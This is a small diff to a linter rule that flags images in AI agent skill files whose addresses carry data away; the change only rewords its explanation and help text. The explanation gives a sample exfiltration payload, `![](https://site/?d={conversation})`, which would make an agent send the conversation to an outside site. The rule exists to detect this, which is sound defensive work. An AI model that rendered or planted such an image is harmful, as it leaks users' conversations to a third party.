@@ -32,7 +32,7 @@ export const imageBeacon: Rule = {
   category: 'security',
   since: '0.1.0',
   summary: 'an image whose address carries data away',
-  why: 'An image is fetched as soon as it is shown, without a question. An agent that is told to show `![](https://site/?d={conversation})` sends what it fills in to that site. Badges, charts and maps with a place to fill in are not reported.',
+  why: 'An image is fetched as soon as it is shown, without asking. An agent that is told to show `![](https://site/?d={conversation})` sends what it fills in to that site. Badges, charts and maps with a place to fill in are not reported.',
   valid: [
     '---\nname: example\ndescription: Writes readme files. Use when a project needs one.\n---\nAdd ![build](https://img.shields.io/github/v/release/{owner}/{repo}) and ![chart](https://quickchart.io/chart?c={config}).\n',
   ],
@@ -80,7 +80,7 @@ export const imageBeacon: Rule = {
           file,
           level: reason === undefined ? level : level === 'error' ? 'warning' : 'note',
           confidence: level === 'error' ? 'high' : 'medium',
-          help: 'show a picture that lies in the skill, or an address with nothing to fill in',
+          help: 'show an image from the skill, or an address with nothing to fill in',
         }
         break
       }
